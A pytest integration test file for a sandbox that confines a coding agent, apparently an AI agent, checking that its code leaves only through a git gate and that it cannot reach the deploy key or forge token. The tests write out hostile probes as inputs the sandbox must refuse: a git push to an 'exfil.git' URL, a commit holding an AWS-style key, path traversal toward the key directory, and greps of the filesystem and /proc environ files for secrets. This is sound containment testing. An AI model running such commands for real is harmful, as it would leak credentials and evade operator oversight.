"""Code leaves only through the git gate: a `cwd=` workspace, end to end in a real bottle.

The host repository is never mounted writable into the agent: the agent works
on a clone from the gate, and its pushes land in the bottle's outbox, which the
operator fetches from.
"""
from __future__ import annotations

import secrets
import subprocess
from pathlib import Path

import pytest

from tests.integration.bottlekit import FORGE, running_bottle
from tests.unit.gitgate.conftest import bare_upstream


def git(cwd, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


@pytest.fixture(scope="module")
def repo(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostrepo") / "project"
    path.mkdir()
    git(path, "init", "-q", "-b", "main")
    git(path, "config", "user.email", "op@example.test")
    git(path, "config", "user.name", "Operator")
    (path / "README.md").write_text("hello\n")
    git(path, "add", "README.md")
    git(path, "commit", "-qm", "initial")
    return path


KEY_MARK = "claude-bottle-test-deploy-key"


def _deploy_key(directory) -> tuple[str, str]:
    """An ed25519 key the bottle holds for an ssh remote: (private key file, public key line)."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519
    key = ed25519.Ed25519PrivateKey.generate()
    path = directory / "deploy_key"
    path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
                                       serialization.NoEncryption()))
    path.chmod(0o600)
    public = key.public_key().public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    return str(path), public.decode()


FORGE_URL = f"https://{FORGE}/team/project.git"
FORGE_TOKEN_ENV = "BOTTLE_FORGE_TOKEN"
FORGE_USER = "bottle-bot"


@pytest.fixture(scope="module")
def bottle(tmp_path_factory, docker_client, test_run_id, repo):
    root = tmp_path_factory.mktemp("ws")
    key_file, public = _deploy_key(root)
    host_key = _deploy_key(tmp_path_factory.mktemp("hostkey"))[1]
    git = {"remotes": [{"name": "upstream", "upstream": "ssh://git@git.bottle.test/team/repo.git",
                        "identity_file": key_file, "known_host_key": f"git.bottle.test {host_key}"},
                       {"name": "forge", "upstream": FORGE_URL,
                        "auth": {"token_ref": FORGE_TOKEN_ENV, "username": FORGE_USER}}]}
    forge_repos = root / "forge"
    (forge_repos / "team").mkdir(parents=True)
    bare_upstream(forge_repos / "team" / "project.git", {"README.md": "from the forge\n"})
    token = "ghp_" + secrets.token_hex(18)
    with running_bottle(root, docker_client, test_run_id, "ws", workspace=repo, git=git,
                        env={FORGE_TOKEN_ENV: token}) as b:
        b.key_text = Path(key_file).read_text()
        b.forge_token, b.forge_repo = token, forge_repos / "team" / "project.git"
        b.start_forge(forge_repos, FORGE_USER, FORGE_TOKEN_ENV)
        yield b


def in_clone(bottle, script: str) -> tuple[int, str]:
    return bottle.exec(f"cd /workspace/project && {script} 2>&1")


def test_workspace_is_a_clone_from_the_gate(bottle):
    code, out = in_clone(bottle, "cat README.md && git remote get-url origin")
    assert code == 0, out
    assert "hello" in out and "git://git-gate/workspace.git" in out
    code, out = bottle.exec("grep -c project /proc/self/mountinfo || true")
    assert out.strip() == "0", "the host repository must not be mounted into the agent"


def test_agent_push_reaches_the_outbox_not_the_host_repo(bottle, repo):
    code, out = in_clone(bottle, "git checkout -qb agent/feature && echo work > feature.txt && git add feature.txt "
                                 "&& git commit -qm 'agent work' && git push -q origin agent/feature")
    assert code == 0, out
    assert "agent/feature" not in git(repo, "branch", "--list")
    outbox = bottle.home / f"state/{bottle.agent}/outbox/workspace.git"
    git(repo, "fetch", "-q", str(outbox), "+refs/heads/*:refs/remotes/bottle/*")
    assert "agent work" in git(repo, "log", "--oneline", "refs/remotes/bottle/agent/feature")


def test_push_with_a_secret_is_refused_naming_file_and_line(bottle):
    key_id = "AKIA" + "QWERTYUIOPASDFGH"  # built here so the repository holds no key-shaped literal
    code, out = in_clone(bottle, f"git checkout -qb agent/leak && printf 'a = 1\\naws = \"{key_id}\"\\n' > cfg.py "
                                 "&& git add cfg.py && git commit -qm leak && git push origin agent/leak")
    assert code != 0
    assert "cfg.py" in out and "line 2" in out, out
    outbox = bottle.home / f"state/{bottle.agent}/outbox/workspace.git"
    assert "agent/leak" not in git(outbox, "branch", "--list")


def test_force_push_to_the_protected_branch_is_refused(bottle):
    code, out = in_clone(bottle, "git checkout -q main && git commit -q --amend -m rewritten "
                                 "&& git push --force origin main")
    assert code != 0
    assert "main" in out and ("protected" in out or "force" in out), out


def test_git_push_over_https_is_refused_by_the_egress_proxy(bottle):
    before = len(bottle.fake_requests())
    code, out = in_clone(bottle, "git push https://api.anthropic.com/v1/exfil.git HEAD:refs/heads/x")
    assert code != 0
    assert "403" in out or "git push" in out.lower(), out
    assert not [r for r in bottle.fake_requests()[before:] if "receive-pack" in r["path"]]


def test_the_upstream_key_is_not_readable_from_the_agent(bottle):
    line = bottle.key_text.splitlines()[1]  # a line of the private key itself
    # The gate does hold it (else this test would prove nothing), as its own user's private copy...
    code, out = bottle.exec("stat -c '%U %a' /home/bottle/keys/upstream/id && cat /home/bottle/keys/upstream/id",
                            user="root", role="sidecars")
    assert code == 0 and out.split()[:2] in (["bottle", "400"], ["bottle", "600"]) and line in out, out
    # ...and nothing the agent can read carries it.
    code, out = bottle.exec(f"grep -rslF {line!r} / --exclude-dir=proc --exclude-dir=sys")
    assert code in (1, 2) and out.strip() == "", out
    code, out = in_clone(bottle, "git ls-remote git://git-gate/../../home/bottle/keys/upstream; "
                                 "git ls-remote git://git-gate/keys")
    assert line not in out and "BEGIN OPENSSH" not in out


def test_https_forge_clone_and_push_go_through_the_gate_with_a_token_the_agent_never_holds(bottle):
    code, out = bottle.exec(f"cd /workspace && git clone -q {FORGE_URL} forge-clone && cd forge-clone "
                            "&& cat README.md && git checkout -qb agent/forge && echo done > forge.txt "
                            "&& git add forge.txt && git commit -qm 'forge work' && git push origin agent/forge 2>&1")
    assert code == 0, out
    assert "from the forge" in out and "git-gate: pushed agent/forge" in out
    log = git(bottle.forge_repo, "log", "--format=%s", "refs/heads/agent/forge")
    assert log.splitlines()[0] == "forge work"
    requests = bottle.forge_requests()
    assert any(r["path"].endswith("/git-receive-pack") for r in requests)
    assert requests and all(r["authorised"] for r in requests)
    # The token is in the sidecars' environment only: not in the agent's, nor anywhere it can read.
    code, out = bottle.exec(f"env; grep -rslF {bottle.forge_token!r} / --exclude-dir=proc --exclude-dir=sys")
    assert bottle.forge_token not in out and FORGE_TOKEN_ENV not in out, out


def test_the_agent_cannot_reach_the_forge_around_the_gate(bottle):
    before = len(bottle.forge_requests())
    # A URL the gitconfig's insteadOf does not match goes to the egress proxy, which has no route for the forge.
    code, out = bottle.exec(f"git ls-remote {FORGE_URL.replace('https://', 'https://x@')} 2>&1;"
                            f" curl -sS -o /dev/null -w '%{{http_code}}' https://{FORGE}/team/project.git/info/refs")
    assert "403" in out, out
    assert len(bottle.forge_requests()) == before


def test_supervise_cannot_read_the_forge_token_from_the_gate(bottle):
    # supervise parses the agent's MCP requests: if it were subverted, it must not find the token either.
    code, out = bottle.exec(f"grep -slF {bottle.forge_token!r} /proc/[0-9]*/cmdline /proc/[0-9]*/environ; "
                            "grep -c . /proc/1/environ", user="supervise", role="sidecars")
    assert bottle.forge_token not in out
    assert "Permission denied" in out, out
